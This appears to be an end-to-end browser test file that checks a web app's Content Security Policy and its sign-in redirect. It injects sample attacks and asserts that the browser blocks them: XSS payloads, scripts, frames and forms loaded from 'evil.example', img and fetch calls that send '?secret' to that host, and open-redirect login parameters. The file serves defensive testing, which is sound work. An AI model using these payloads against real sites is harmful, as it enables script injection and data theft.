import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { pathOf, textField, visitWebApp } from '../support/browser/visit-web-app.ts';
import { signUp } from '../support/factories.ts';
import { routeStripeJs } from '../support/stripe/route-stripe-js.ts';
import { startStripeServer } from '../support/stripe/stripe-server.ts';
import { byScope } from '../support/test-scope.ts';

const evil = 'https://evil.example';
const stripeScript = 'https://js.stripe.com/v3/';
const stripeFrame = 'https://js.stripe.com/payment-element.html';
const stripe = await startStripeServer();

/**
 * Injects code into the page, as an attacker who can write into it would.
 * @returns the refusals of the browser, each as `directive source`
 */
async function refusedBy(page: Page, act: string): Promise<string[]> {
  await page.evaluate(`(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.refused.push(effectiveDirective + ' ' + blockedURI));
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    ${act}
  })()`);
  await expect.poll(() => page.evaluate('window.refused.length')).toBeGreaterThan(0);
  expect(await page.evaluate('window.owned')).toBeUndefined();
  const refused: unknown = await page.evaluate('window.refused');
  return Array.isArray(refused) ? refused.map(String) : [];
}

/** Attacks in the page, each with the refusal that the browser reports. */
const written: [name: string, act: string, refusal: string][] = [
  ['a script', 'add("script", { textContent: "window.owned = true" })', 'script-src-elem inline'],
  [
    'an event handler',
    'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })',
    'script-src-attr inline',
  ],
  [
    'a link that is a script',
    'const link = document.createElement("a"); link.href = "javascript:owned=true"; document.body.append(link); link.click()',
    'script-src-elem inline',
  ],
  [
    'a text that is run as a script',
    // Runs later, because code that a debugger runs has more rights than the page.
    'setTimeout(() => { try { window.owned = eval("1") } catch {} })',
    'script-src eval',
  ],
  ['a script of another site', `add("script", { src: "${evil}/x.js" })`, `script-src-elem ${evil}/x.js`],
  ['a frame', `add("iframe", { src: "${evil}/" })`, `frame-src ${evil}`],
  ['an object', `add("object", { data: "${evil}/x.swf" })`, `object-src ${evil}`],
  ['a style', 'add("style", { textContent: "body { display: none }" })', 'style-src-elem inline'],
  ['a picture that sends data', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
  ['a call that sends data', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
  ['another base address', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
  [
    'a form that leads to another site',
    `add("form", { action: "${evil}/", method: "post" }); document.forms[0].submit()`,
    `form-action ${evil}/`,
  ],
  [
    'the payment script on a server without payments',
    `add("script", { src: "${stripeScript}" })`,
    stripeScript,
  ],
];

describe('an attack in a page', () => {
  const visits = visitWebApp();

  // attack: 99
  it.each(byScope(written.slice(0, 4), written))('has no effect: %s', async (_what, act, refusal) => {
    visits.expectFault(/Content Security Policy|violates the following/);
    const page = await visits.open('/about');
    expect((await refusedBy(page, act)).join('\n')).toContain(refusal);
  });

  // attack: 100
  it('cannot redirect the sign-in to another site', async () => {
    const { user, password } = await signUp(visits.testApp);
    const page = await visits.open('/login?next=//evil.example&redirect=https://evil.example');
    await textField(page, 'Email').fill(user.email);
    await textField(page, 'Password').fill(password);
    await page.keyboard.press('Enter');
    await page.waitForURL('**/dashboard');
    expect(page.url().startsWith(visits.url)).toBe(true);
    expect(pathOf(page)).toBe('/dashboard');
  });
});

describe('on a server with payments', () => {
  afterAll(() => stripe.close());
  const visits = visitWebApp({ app: { env: stripe.env } });

  // attack: 99
  it('the script and the frame of the provider work, and those of other sites do not', async () => {
    visits.expectFault(/Content Security Policy|violates the following/);
    const page = await visits.open('/about');
    await routeStripeJs(page.context(), stripe);
    const loaded = page.waitForResponse(stripeFrame);
    const refused = await refusedBy(
      page,
      `add("script", { src: "${stripeScript}" }); add("iframe", { src: "${stripeFrame}" }); add("script", { src: "${evil}/x.js" })`,
    );
    expect((await loaded).status()).toBe(200);
    await page.waitForFunction('typeof Stripe === "function"');
    expect(refused).toEqual([`script-src-elem ${evil}/x.js`]);
  });
});
